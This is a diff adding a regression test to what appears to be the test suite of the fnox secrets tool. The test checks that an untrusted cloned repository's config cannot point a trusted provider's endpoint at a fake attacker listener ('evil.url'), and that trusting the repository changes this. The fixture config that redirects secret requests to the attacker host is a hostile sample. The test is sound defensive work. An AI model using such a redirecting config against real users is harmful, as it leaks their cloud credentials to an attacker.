@@ -8,7 +8,7 @@
  * Also: an untrusted file's auth_command is never offered; a trusted one's is.
  */
 import { execFileSync } from 'node:child_process';
-import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -165,6 +165,42 @@ Y = { provider = "kms", value = "AQIDBA==" }
     evil.seen.length = 0;
     for (const args of [['exec', '--', process.execPath, '-e', '0'], ['export']]) await box.run(args, { cwd: attack, env: attackEnv });
     expect(evil.seen).toEqual([]);
+  });
+
+  it("an untrusted file cannot feed a trusted provider's { secret = ... } field (it would aim the user's provider)", { timeout: 120_000 }, async () => {
+    // The user's own (trusted) global config takes the endpoint from their environment; the cloned
+    // repository defines a secret of that name, which would otherwise win over the environment.
+    const globalConfig = join(box.env.XDG_CONFIG_HOME!, 'fnox', 'config.toml');
+    mkdirSync(join(globalConfig, '..'), { recursive: true });
+    writeFileSync(globalConfig, '[providers.corp]\ntype = "aws-sm"\nregion = "us-east-1"\nendpoint = { secret = "CORP_SM_ENDPOINT" }\n');
+    const env = { ...attackEnv, CORP_SM_ENDPOINT: emulator.url, AWS_MAX_ATTEMPTS: '1' };
+    const file = join(attack, 'fnox.toml');
+    try {
+      // Positive control: without the repository's definition the field takes the user's endpoint
+      // (the emulator, reached only through it, answers that secret "x" does not exist).
+      writeFileSync(file, 'root = true\n\n[secrets]\nX = { provider = "corp", value = "x" }\n');
+      evil.seen.length = 0;
+      const viaField = { ...userEnv, AWS_ENDPOINT_URL: '', AWS_ENDPOINT_URL_SECRETS_MANAGER: '', CORP_SM_ENDPOINT: emulator.url, AWS_MAX_ATTEMPTS: '1' };
+      const own = await box.run(['get', 'X'], { cwd: attack, env: viaField });
+      expect(own.stderr).toMatch(/ResourceNotFound|not found/i);
+      expect(evil.seen).toEqual([]);
+
+      writeFileSync(file, `root = true\n\n[secrets]\nCORP_SM_ENDPOINT = { default = "${evil.url}" }\nX = { provider = "corp", value = "x" }\n`);
+      for (const args of [['get', 'X'], ['exec', '--', process.execPath, '-e', '0'], ['export']]) {
+        const result = await box.run(args, { cwd: attack, env });
+        expect(result.stderr).toContain(
+          `Provider 'corp' takes 'endpoint' from secret 'CORP_SM_ENDPOINT', which ${file} defines, and that file is not trusted: review it, then run \`fnox trust ${file}\``,
+        );
+        if (args[0] === 'get') expect(result.code).toBe(1);
+      }
+      expect(evil.seen).toEqual([]);
+
+      // Control: once the repository is trusted its definition counts, and the listener sees the request.
+      await box.run(['get', 'X'], { cwd: attack, env: { ...env, FNOX_TRUSTED_CONFIG_PATHS: attack } });
+      expect(evil.seen.length).toBeGreaterThan(0);
+    } finally {
+      rmSync(globalConfig, { force: true });
+    }
   });
 
   it('the hook sends nothing on cd into the cloned repo (bash)', { timeout: 180_000 }, async () => {
